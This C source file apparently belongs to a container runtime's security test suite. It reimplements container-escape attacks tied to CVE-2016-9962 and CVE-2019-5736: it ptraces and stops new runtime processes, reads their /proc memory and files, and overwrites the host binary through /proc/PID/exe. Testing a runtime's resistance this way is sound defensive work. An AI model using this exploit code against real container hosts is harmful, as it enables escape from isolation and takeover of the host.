// Attacks of a container's process on what enters the container from outside: an exec before it is
// its command (CVE-2016-9962, CVE-2019-5736). They watch for processes they have not seen.
#include <dirent.h>
#include <errno.h>
#include <fcntl.h>
#include <signal.h>
#include <stdio.h>
#include <stdlib.h>
#include <string.h>
#include <sys/ptrace.h>
#include <sys/uio.h>
#include <sys/wait.h>
#include <time.h>
#include <unistd.h>

#include "attack.h"

static double now(void) {
  struct timespec time;
  clock_gettime(CLOCK_MONOTONIC, &time);
  return (double)time.tv_sec + (double)time.tv_nsec / 1e9;
}

static long read_file(const char* path, char* text, size_t size) {
  const int fd = open(path, O_RDONLY | O_CLOEXEC);
  if (fd < 0) return -1;
  const ssize_t length = read(fd, text, size - 1);
  close(fd);
  if (length >= 0) text[length] = '\0';
  return length;
}

// What it is called before it is its command.
static int is_ours(int pid) {
  char path[64];
  char name[64] = "";
  snprintf(path, sizeof path, "/proc/%d/comm", pid);
  return read_file(path, name, sizeof name) > 0 && strncmp(name, "skerry", 6) == 0;
}

struct tally {
  long early;   // seen before they were their command
  long opened;  // something of such a one was had
};

static void had(struct tally* tally, int pid, const char* what, const char* detail) {
  // What came after its exec is no prize.
  if (!is_ours(pid)) return;
  ++tally->opened;
  printf("had %s %s\n", what, detail);
}

static void try_files(struct tally* tally, int pid) {
  static const char* const files[] = {"environ", "mem", "maps", "auxv", "syscall", "stack"};
  char path[96];
  char text[4096];
  for (size_t i = 0; i < sizeof files / sizeof files[0]; ++i) {
    snprintf(path, sizeof path, "/proc/%d/%s", pid, files[i]);
    const int fd = open(path, (strcmp(files[i], "mem") == 0 ? O_RDWR : O_RDONLY) | O_CLOEXEC);
    if (fd < 0) continue;
    if (strcmp(files[i], "mem") == 0 || read(fd, text, sizeof text) > 0)
      had(tally, pid, files[i], "");
    close(fd);
  }
}

static void try_links(struct tally* tally, int pid) {
  static const char* const links[] = {
      "exe", "cwd", "root", "fd/0", "fd/3", "fd/4", "fd/5", "ns/mnt"};
  char path[96];
  char text[4096];
  for (size_t i = 0; i < sizeof links / sizeof links[0]; ++i) {
    snprintf(path, sizeof path, "/proc/%d/%s", pid, links[i]);
    const ssize_t length = readlink(path, text, sizeof text - 1);
    if (length < 0) continue;
    text[length] = '\0';
    had(tally, pid, links[i], text);
  }
}

static void try_trace(struct tally* tally, int pid) {
  char byte = 0;
  struct iovec local = {&byte, 1};
  struct iovec remote = {(void*)0x400000, 1};
  if (process_vm_readv(pid, &local, 1, &remote, 1, 0) >= 0 || errno == EFAULT)
    had(tally, pid, "memory", "");
  if (ptrace(PTRACE_SEIZE, pid, 0, 0) != 0) return;
  had(tally, pid, "trace", "");
  // A stop makes it ours to let go.
  ptrace(PTRACE_INTERRUPT, pid, 0, 0);
  waitpid(pid, NULL, __WALL);
  ptrace(PTRACE_DETACH, pid, 0, 0);
}

// Calls `attack` for each process that is new, until the time is over or it says enough.
static void watch(double seconds, int (*attack)(void* context, int pid), void* context) {
  static char known[4194305];
  const double end = now() + seconds;
  known[getpid()] = 1;
  for (int first = 1; now() < end; first = 0) {
    DIR* proc = opendir("/proc");
    if (proc == NULL) return;
    for (struct dirent* entry = readdir(proc); entry != NULL; entry = readdir(proc)) {
      const long pid = strtol(entry->d_name, NULL, 10);
      if (pid <= 0 || pid > 4194304 || known[pid]) continue;
      if (!first && !attack(context, (int)pid)) continue;
      known[pid] = 1;
    }
    closedir(proc);
    if (first) printf("watching\n");
  }
}

static int look(void* context, int pid) {
  struct tally* tally = context;
  if (!is_ours(pid)) return 1;
  ++tally->early;
  try_trace(tally, pid);
  try_links(tally, pid);
  try_files(tally, pid);
  // Again next time round, as long as it is what it is.
  return 0;
}

// SECONDS
int attack_watch_joining(int count, char** words) {
  if (count != 1) return 2;
  struct tally tally = {0, 0};
  watch(atof(words[0]), look, &tally);
  printf("early %ld opened %ld\n", tally.early, tally.opened);
  return 0;
}

// Holds what is about to become a command.
static int stop(void* context, int pid) {
  if (!is_ours(pid)) return 1;
  if (kill(pid, SIGSTOP) == 0) ++*(long*)context;
  return 1;
}

// SECONDS
int attack_stop_joining(int count, char** words) {
  if (count != 1) return 2;
  long stopped = 0;
  watch(atof(words[0]), stop, &stopped);
  printf("stopped %ld\n", stopped);
  return 0;
}

// A command that is "#!/proc/self/exe" runs whatever entered the container, which then is a process
// of the container like any other: its program can be opened, and is written as soon as nobody runs
// it.
static int overwrite(void* context, int pid) {
  char path[64];
  char text[256] = "";
  snprintf(path, sizeof path, "/proc/%d/exe", pid);
  const int fd = open(path, O_PATH | O_CLOEXEC);
  if (fd < 0) return errno == ENOENT;
  const ssize_t length = readlink(path, text, sizeof text - 1);
  if (length < 0 || strstr(text, "skerry") == NULL) {
    close(fd);
    return 0;
  }
  snprintf(path, sizeof path, "/proc/self/fd/%d", fd);
  const char* word = "EBUSY";
  for (int i = 0; i < 20000; ++i) {
    const int file = open(path, O_WRONLY | O_TRUNC | O_CLOEXEC);
    if (file < 0 && errno == ETXTBSY) continue;
    word = file < 0                               ? strerrorname_np(errno)
           : write(file, "overwritten", 11) == 11 ? "ok"
                                                  : strerrorname_np(errno);
    if (file >= 0) close(file);
    break;
  }
  printf("program %s %s\n", text, word);
  ++*(long*)context;
  close(fd);
  return 1;
}

// SECONDS
int attack_overwrite_exe(int count, char** words) {
  if (count != 1) return 2;
  long found = 0;
  watch(atof(words[0]), overwrite, &found);
  printf("found %ld\n", found);
  return 0;
}
